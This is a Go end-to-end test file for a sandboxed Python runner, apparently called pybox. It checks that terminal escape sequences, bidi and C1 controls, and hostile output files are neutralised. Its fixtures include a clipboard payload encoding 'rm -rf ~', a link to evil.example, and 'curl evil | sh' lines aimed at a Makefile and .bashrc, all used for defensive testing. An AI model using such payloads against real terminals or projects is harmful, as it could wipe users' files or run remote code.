package e2e

// End-to-end tests that nothing a program prints or names acts on the
// user's terminal or files: `pybox run` on a real pseudo-terminal, --out
// in a project directory, `pybox vm console` while the kernel logs a
// program's name, and the JSON of MCP results and --json.

import (
	"bytes"
	"encoding/json"
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"pybox/shared/needs"
	"pybox/shared/wire"
)

// openPTY opens a pseudo-terminal pair: the master end the test reads as
// the terminal would, and the slave end a program writes to.
func openPTY(t *testing.T) (master, slave *os.File) {
	t.Helper()
	m, err := os.OpenFile("/dev/ptmx", os.O_RDWR|syscall.O_NOCTTY, 0)
	if err != nil {
		needs.Unavailable(t, "no pseudo-terminals here: "+err.Error())
	}
	var unlock int32
	if _, _, errno := unix.Syscall(unix.SYS_IOCTL, m.Fd(), unix.TIOCSPTLCK, uintptr(unsafe.Pointer(&unlock))); errno != 0 {
		t.Fatal(errno)
	}
	n, err := unix.IoctlGetInt(int(m.Fd()), unix.TIOCGPTN)
	if err != nil {
		t.Fatal(err)
	}
	s, err := os.OpenFile("/dev/pts/"+strconv.Itoa(n), os.O_RDWR|syscall.O_NOCTTY, 0)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { m.Close(); s.Close() })
	return m, s
}

// onTerminal runs `pybox run ARGS... SCRIPT` with stdout and stderr on a
// pseudo-terminal and returns what the terminal received.
func onTerminal(t *testing.T, e *vmEnv, code string, args ...string) string {
	t.Helper()
	master, slave := openPTY(t)
	script := filepath.Join(t.TempDir(), "prog.py")
	os.WriteFile(script, []byte(code), 0o644)
	cmd := exec.Command(e.bin, append(append([]string{"run", "--timeout", "10"}, args...), script)...)
	cmd.Env = e.env
	cmd.Stdout, cmd.Stderr = slave, slave
	got := make(chan []byte, 1)
	go func() { b, _ := io.ReadAll(master); got <- b }()
	if err := cmd.Run(); err != nil {
		var ee *exec.ExitError
		if !errors.As(err, &ee) {
			t.Fatal(err)
		}
	}
	slave.Close()
	select {
	case b := <-got:
		// The terminal's line discipline turns "\n" into "\r\n".
		return strings.ReplaceAll(string(b), "\r\n", "\n")
	case <-time.After(10 * time.Second):
		t.Fatal("the terminal's output did not end")
	}
	return ""
}

// hostileOutput prints what would act on a terminal that showed it raw:
// OSC 52 (write the clipboard), SGR 8 (hidden text), an OSC 8 link, and
// a fake summary line that hides the rest of its line.
const hostileOutput = `
import sys
sys.stdout.write("clip\x1b]52;c;cm0gLXJmIH4=\x07 hide\x1b[8mhidden\x1b[0m link\x1b]8;;https://evil.example/\x1b\\here\x1b]8;;\x1b\\ bidi\u202eevil\n")
sys.stderr.write("pybox: run 0000: ok (the program exited with code 0), cleanup REMOVED\x1b[1A\x1b[2K\n")
sys.exit(3)
`

func TestTerminalSafety(t *testing.T) {
	e := boxVM(t)

	t.Run("pybox run on a terminal shows controls escaped", func(t *testing.T) {
		out := onTerminal(t, e, hostileOutput)
		for _, raw := range []string{"\x1b", "\x07", "\u202e"} {
			if strings.Contains(out, raw) {
				t.Errorf("%q reached the terminal raw:\n%q", raw, out)
			}
		}
		for _, shown := range []string{`clip\x1b]52;c;cm0gLXJmIH4=\x07`, `\x1b[8mhidden`, `\x1b]8;;https://evil.example/`, `bidi\u{202e}evil`, `\x1b[1A\x1b[2K`} {
			if !strings.Contains(out, shown) {
				t.Errorf("the terminal does not show %q:\n%s", shown, out)
			}
		}
		// The real summary is there, and says error: the fake one's
		// cursor moves could not hide it.
		if !strings.Contains(out, "pybox: run ") || !strings.Contains(out, ": error (the program exited with code 3)") {
			t.Errorf("no real summary:\n%s", out)
		}
	})

	t.Run("--raw passes the bytes through", func(t *testing.T) {
		out := onTerminal(t, e, hostileOutput, "--raw")
		if !strings.Contains(out, "\x1b]52;c;cm0gLXJmIH4=\x07") || !strings.Contains(out, "\u202e") {
			t.Errorf("--raw did not keep the program's bytes:\n%q", out)
		}
		// The summary is pybox's, and stays escaped even with --raw.
		if i := strings.LastIndex(out, "pybox: run "); i < 0 || strings.ContainsAny(out[i:], "\x1b\x07") {
			t.Errorf("the summary is not escaped:\n%q", out)
		}
	})

	t.Run("--out in a project overwrites nothing", func(t *testing.T) {
		project := t.TempDir()
		os.WriteFile(filepath.Join(project, "Makefile"), []byte("all:\n\ttrue\n"), 0o644)
		r := runPy(t, e, `
for name, text in (("Makefile", "all:\n\tcurl evil | sh\n"), (".bashrc", "curl evil | sh\n"), ("json.py", "import os\n")):
    open("/tmp/output/" + name, "w").write(text)
`, "--timeout", "10", "--out", project)
		rc := expectEnd(t, r, wire.StatusOK)
		if b, _ := os.ReadFile(filepath.Join(project, "Makefile")); string(b) != "all:\n\ttrue\n" {
			t.Errorf("the project's Makefile became %q", b)
		}
		ents, _ := os.ReadDir(project)
		names := []string{}
		for _, en := range ents {
			names = append(names, en.Name())
		}
		if len(names) != 2 || !slices.Contains(names, "Makefile") || !slices.Contains(names, rc.RunID) {
			t.Errorf("the project holds %v; want Makefile and the run's directory %s", names, rc.RunID)
		}
		run, _ := os.ReadDir(filepath.Join(project, rc.RunID))
		got := []string{}
		for _, en := range run {
			got = append(got, en.Name())
		}
		if strings.Join(got, ",") != "Makefile,json.py" {
			t.Errorf("the run's directory holds %v, want Makefile and json.py (no dot-file)", got)
		}
		if !strings.Contains(r.stderr, "not written: .bashrc: its name starts with a dot") {
			t.Errorf("the summary does not say .bashrc was left out:\n%s", r.stderr)
		}
	})

	t.Run("C1 and bidi controls never appear raw in --json", func(t *testing.T) {
		r := runPy(t, e, `print("a\u009b2Jb\u202ec\u2067d")`, "--timeout", "10")
		rc := expectEnd(t, r, wire.StatusOK)
		for _, raw := range []string{"\u009b", "\u202e", "\u2067"} {
			if strings.Contains(r.raw, raw) {
				t.Errorf("%q is raw in --json output", raw)
			}
		}
		if rc.Capture.Stdout != "a\u009b2Jb\u202ec\u2067d\n" || rc.Capture.StdoutInfo.Controls != 3 {
			t.Errorf("stdout %q, controls %d", rc.Capture.Stdout, rc.Capture.StdoutInfo.Controls)
		}
	})

	t.Run("C1 and bidi controls never appear raw in an MCP result", func(t *testing.T) {
		c := e.rawClient(t, true)
		c.initialize()
		c.send(callLine(1, pyArgs(`print("a\u009b2Jb\u202ec\u2067d")`, "")))
		m := c.reply("1", 30*time.Second)
		for _, raw := range []string{"\u009b", "\u202e", "\u2067"} {
			if bytes.Contains(m.line, []byte(raw)) {
				t.Errorf("%q is raw in the response line", raw)
			}
		}
		res := rawResult(t, m)
		if res.Execution.Capture.Stdout != "a\u009b2Jb\u202ec\u2067d\n" {
			t.Errorf("stdout decodes to %q", res.Execution.Capture.Stdout)
		}
		var doc struct {
			Execution struct {
				Capture struct {
					Info wire.Stream `json:"stdout_info"`
				} `json:"capture"`
			} `json:"execution"`
		}
		json.Unmarshal([]byte(res.Text), &doc)
		if doc.Execution.Capture.Info.Controls != 3 {
			t.Errorf("stdout_info.controls %d, want 3", doc.Execution.Capture.Info.Controls)
		}
	})

	t.Run("vm console escapes what the guest prints", func(t *testing.T) {
		// The kernel logs the name of a process it kills for memory: the
		// program names itself with an escape sequence first.
		console := exec.Command(e.bin, "vm", "console")
		console.Env = e.env
		in, _ := console.StdinPipe()
		var out bytes.Buffer
		console.Stdout = &out
		if err := console.Start(); err != nil {
			t.Fatal(err)
		}
		time.Sleep(500 * time.Millisecond) // attached before the run
		r := runPy(t, e, `
import ctypes
ctypes.CDLL(None).prctl(15, b"\x1b]52;c;eA==\x07", 0, 0, 0)
print("named", flush=True)
hog = []
while True:
    hog.append(bytearray(16 << 20))
`, "--timeout", "30")
		expectEnd(t, r, wire.StatusOOM)
		// The console's "last" prints the receipt the agent keeps, whose
		// JSON holds the C1 control of a later run raw.
		expectEnd(t, runPy(t, e, `print("c1:\u009b2J")`, "--timeout", "10"), wire.StatusOK)
		io.WriteString(in, "\nlast\n")
		time.Sleep(2 * time.Second)
		in.Close()
		console.Wait()
		got := out.String()
		if !strings.Contains(got, "Killed process") || !strings.Contains(got, `\x1b]52;c;eA==\x07`) {
			t.Errorf("the console does not show the OOM kill with the name escaped:\n%s", got)
		}
		if !strings.Contains(got, `c1:\u{9b}2J`) {
			t.Errorf("the console's last does not show the C1 control escaped:\n%s", got)
		}
		for _, raw := range []string{"\x1b", "\x07", "\u009b"} {
			if strings.Contains(got, raw) {
				t.Errorf("%q reached the console's terminal raw", raw)
			}
		}
	})

	t.Run("the VM process runs under QEMU's own sandbox", func(t *testing.T) {
		out, _, code := e.pybox("vm", "status")
		if code != 0 || !strings.Contains(out, "vm sandbox:     qemu seccomp (-sandbox on)") {
			t.Errorf("vm status:\n%s", out)
		}
	})
}

// A QEMU built without -sandbox is refused unless the user says so.
func TestQEMUWithoutSandboxIsRefused(t *testing.T) {
	e := newVMEnv(t)
	linkImages(t, e, "stdlib")
	fake := filepath.Join(e.home, "qemu")
	os.WriteFile(fake, []byte(`#!/bin/sh
if [ "$1" = -help ]; then qemu-system-x86_64 -help | grep -v '^-sandbox'; exit; fi
exec qemu-system-x86_64 "$@"
`), 0o755)
	e.env = append(e.env, "PYBOX_QEMU="+fake)
	_, errOut, code := e.pybox("vm", "start", "--accel", "tcg", "--images", "stdlib")
	if code == 0 || !strings.Contains(errOut, "without its seccomp sandbox") || !strings.Contains(errOut, "--no-qemu-sandbox") {
		t.Fatalf("vm start with a QEMU without -sandbox: exit %d\n%s", code, errOut)
	}
	e.expectGone()
}
